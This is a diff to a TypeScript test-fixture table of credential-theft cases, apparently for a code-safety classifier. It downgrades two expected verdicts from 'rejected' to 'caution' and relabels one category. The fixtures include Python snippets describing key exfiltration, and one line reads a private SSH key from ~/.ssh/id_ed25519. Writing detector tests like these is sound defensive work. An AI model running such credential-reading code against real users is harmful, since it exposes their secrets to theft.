@@ -133,7 +133,7 @@ export const THEFT: readonly Row[] = [
   ],
   [
     "a collection of services' keys to one stranger",
-    "rejected",
+    "caution",
     EXFILTRATION,
     python(
       "import os, requests",
@@ -184,8 +184,8 @@ export const THEFT: readonly Row[] = [
   ],
   [
     "a key with curl from Python",
-    "rejected",
-    EXFILTRATION,
+    "caution",
+    "suspicious.sensitive_file_access",
     python(
       "import os",
       "k = open(os.path.expanduser('~/.ssh/id_ed25519')).read()",
